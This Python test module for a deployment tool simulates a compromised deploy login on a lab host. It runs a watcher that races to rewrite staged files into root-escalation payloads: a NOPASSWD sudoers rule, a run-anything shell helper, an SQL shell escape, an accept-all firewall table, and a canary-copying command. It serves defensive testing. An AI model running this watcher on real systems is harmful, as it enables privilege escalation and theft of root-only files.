"""A compromised deploy login, on a lab host: a watcher that rewrites files as they appear.

The deploy login (``deploy``) is the account every deploy uses; its key sits on every
operator's laptop. What it can write, it can change at any moment, and root must never
consume any of it. The watcher (:data:`WATCHER`, run on the host as ``deploy`` over its own
ssh login, as an attacker holding the key would) looks, every half millisecond, at
everything the deploy login can write (the state directory and below, /tmp, /var/tmp,
/dev/shm, /run, its home) and at the places the tool keeps root's staged files, and
rewrites every file that appears or changes there the moment it sees it, into something
that would give root away if root used it: a sudoers rule ``deploy ALL=(ALL:ALL)
NOPASSWD: ALL``, a root helper that runs anything, SQL that runs a shell command
(``\\!``), a client option file that forces the SQL to run, a helper config whose nginx
test copies a root-only file, an nftables table that accepts everything, a config file
(unit, site, server.cnf) with one line changed (an nginx site gets an ``error_log`` root
creates). Each keeps the file's size, so a size check after the upload
still passes. A file it cannot write in a directory it can (a root-owned copy in a
deploy-owned directory) is replaced by a new one. Each payload that runs as root leaves a
file in /tmp (``dk-leak-*``: a copy of the root-only canary; ``dk-pwned-*``).

``start`` plants the canary (root-only, its access time two days back so any read moves
it), starts the watcher and waits until it has rewritten a bait file of its own (it is
live); ``stop`` ends it and returns what it rewrote; ``damage`` lists what root did for it.
"""

from __future__ import annotations

import json
import time

CANARY = "/root/dojangkok-canary"
HOME = "/home/deploy"
#: where the deploy login can write (the lab's state_dir is the default; /run holds its
#: runtime directory and /run/lock), and where the tool stages root's own files (root's
#: alone: it must never see anything there)
WATCHED = ("/var/lib/dojangkok-deploy", "/tmp", "/var/tmp", "/dev/shm", "/run", HOME,
           "/var/lib/dojangkok-deploy-root")  # fmt: skip

WATCHER = r'''
import json, os, re, stat, sys, time

HOME = os.path.expanduser("~")
LOG, STOP, PID = (os.path.join(HOME, "watcher." + n) for n in ("log", "stop", "pid"))
CANARY = "/root/dojangkok-canary"
ME = os.getuid()
OWN = {os.path.realpath(sys.argv[0]), LOG, STOP, PID, os.path.join(HOME, "watcher.out")}


def leak(tag):  # no ";": the mysql client's \! ends its command there
    return f"cp {CANARY} /tmp/dk-leak-{tag} && chmod 644 /tmp/dk-leak-{tag}"


def same_line(text, pattern, new):
    """``text`` with its first line matching ``pattern`` replaced by ``new``, padded with
    spaces to the same length (None: no such line, or ``new`` is longer)."""
    lines = text.split("\n")
    for i, line in enumerate(lines):
        if re.match(pattern, line) and len(line) >= len(new):
            lines[i] = new + " " * (len(line) - len(new))
            return "\n".join(lines)
    return None


def payload(name, text):
    """(kind, new text) for a file root might consume; None for anything else."""
    if re.search(r"(?m)^\S+ +ALL *=", text) or "sudoers" in name:
        return "sudoers", "deploy ALL=(ALL:ALL) NOPASSWD: ALL\n"
    if re.search(r"(?m)^\[(Unit|Service|mysqld)\]", text):
        new = same_line(text, r"#", "# dk-pwned")
        return ("config", new) if new else None
    if re.search(r"(?m)^table inet \S+ \{", text):
        return "nftables", ("table inet dojangkok\ndelete table inet dojangkok\n"
                            "table inet dojangkok {\n chain input {\n"
                            "  type filter hook input priority 0; policy accept;\n }\n}\n")
    if text.startswith("#!"):
        return "script", "#!/bin/sh\n" + leak("script") + '\nexec /bin/sh -c "$*"\n'
    if '"nginx_test"' in text:
        try:
            doc = json.loads(text)
        except ValueError:
            return None
        doc["nginx_test"] = leak("json") + " && " + doc["nginx_test"]
        doc["units"] = doc.get("units", []) + ["ssh"]
        doc.pop("about", None)
        return "helper-config", json.dumps(doc)
    if re.search(r"(?m)^(CREATE|ALTER|GRANT|FLUSH) ", text):
        return "sql", "\\! " + leak("sql") + "\nSELECT 1;\n"
    if text.startswith("[client]"):
        return "option-file", "[client]\nuser=nobody\npassword=x\n"
    if re.search(r"(?m)^ *(server|location) .*\{", text):
        new = same_line(text, r"#", "error_log /tmp/dk-pwned-nginx info;")
        return ("nginx", new) if new else None
    return None


def log(**entry):
    with open(LOG, "a") as f:
        f.write(json.dumps(entry) + "\n")


def rewrite(path, st):
    """Rewrite ``path`` (same size) when it is a file root might consume; its stat after."""
    try:
        with open(path, "rb") as f:
            data = f.read()
    except OSError:
        return st
    if len(data) != st.st_size:
        return None  # still being written: next round
    found = payload(os.path.basename(path), data.decode("utf-8", "replace"))
    if found is None:
        return st
    kind, text = found
    new = text.encode()
    if len(new) > len(data):
        log(path=path, kind=kind, result="too small", size=len(data))
        return st
    new += b"\n" * (len(data) - len(new))
    try:
        if os.access(path, os.W_OK):
            with open(path, "r+b") as f:
                f.write(new)
            how = "rewritten"
        else:  # another's file in a directory of ours: replaced
            tmp = os.path.join(os.path.dirname(path), ".dk-" + os.path.basename(path))
            with open(tmp, "wb") as f:
                f.write(new)
            os.chmod(tmp, stat.S_IMODE(st.st_mode))
            os.rename(tmp, path)
            how = "replaced"
    except OSError as exc:
        log(path=path, kind=kind, result=f"refused: {exc.strerror}")
        return st
    log(path=path, kind=kind, result=how, size=len(data), t=time.time())
    return os.lstat(path)


def files(roots):
    for root in roots:
        for top, dirs, names in os.walk(root, onerror=lambda e: None):
            for name in names:
                path = os.path.join(top, name)
                if path not in OWN and not name.startswith(".dk-"):
                    yield path


def key(st):
    return st.st_ino, st.st_mtime_ns, st.st_size


def main(roots):
    with open(PID, "w") as f:
        f.write(f"{os.getpid()}\n")
    seen = {}
    for path in files(roots):  # what was there before: only what appears or changes counts
        try:
            seen[path] = key(os.lstat(path))
        except OSError:
            pass
    while not os.path.exists(STOP):
        for path in files(roots):
            try:
                st = os.lstat(path)
            except OSError:
                continue
            if not stat.S_ISREG(st.st_mode) or st.st_size == 0 or seen.get(path) == key(st):
                continue
            after = rewrite(path, st)
            if after is not None:
                seen[path] = key(after)
        time.sleep(0.0005)
    os.unlink(PID)


main(sys.argv[1:])
'''


def _deploy(lab, host: str, command: str, input: str | None = None):
    res = lab.run(host, command, user="deploy", timeout=60, input=input)
    assert res.returncode == 0, f"{host}$ (deploy) {command}\n{res.stdout}\n{res.stderr}"
    return res.stdout


def _root(lab, host: str, command: str) -> str:
    res = lab.run(host, command, timeout=60)
    assert res.returncode == 0, f"{host}$ {command}\n{res.stdout}\n{res.stderr}"
    return res.stdout.strip()


def plant_canary(lab, host: str, text: str) -> None:
    """A root-only file, its access time two days back: a read moves it (relatime)."""
    _root(lab, host, f"umask 077; printf '%s\\n' '{text}' > {CANARY}; "
                     f"touch -a -d '2 days ago' {CANARY}")  # fmt: skip


def canary_atime(lab, host: str) -> str:
    """When the canary was last read (stat reads no content)."""
    return _root(lab, host, f"stat -c %X {CANARY}")


def canary(lab, host: str) -> str:
    """The canary's content, read as root (it moves its access time: check that first)."""
    return _root(lab, host, f"cat {CANARY}")


def start(lab, host: str) -> None:
    """The watcher, started over the deploy login's own ssh, live once it rewrote a bait."""
    _deploy(lab, host, f"rm -f {HOME}/watcher.*; cat > {HOME}/watcher.py", input=WATCHER)
    _deploy(lab, host, f"setsid -f python3 {HOME}/watcher.py {' '.join(WATCHED)} "
                       f"> {HOME}/watcher.out 2>&1 < /dev/null")  # fmt: skip
    bait = f"{WATCHED[0]}/bait.sudoers"
    time.sleep(0.5)
    _deploy(lab, host, f"printf '%s\\n' '# bait' 'nobody ALL=(ALL) NOPASSWD: /bin/true' > {bait}")
    deadline = time.monotonic() + 10
    while "ALL=(ALL:ALL)" not in _deploy(lab, host, f"cat {bait}"):
        assert time.monotonic() < deadline, _deploy(lab, host, f"cat {HOME}/watcher.out")
        time.sleep(0.1)
    _deploy(lab, host, f"rm -f {bait}")


def stop(lab, host: str) -> list[dict]:
    """End the watcher; every file it rewrote or replaced (the bait's first)."""
    _deploy(lab, host, f"touch {HOME}/watcher.stop; for _ in $(seq 50); do "
                       f"[ -e {HOME}/watcher.pid ] || break; sleep 0.1; done; "
                       f"! [ -e {HOME}/watcher.pid ]")  # fmt: skip
    text = _deploy(lab, host, f"cat {HOME}/watcher.log 2>/dev/null || true")
    return [json.loads(line) for line in text.splitlines() if line.strip()]


def damage(lab, host: str) -> str:
    """What root did for the watcher's payloads: the files they leave, as root sees them."""
    return _root(lab, host, "ls -la /tmp/dk-leak-* /tmp/dk-pwned-* 2>/dev/null || true")
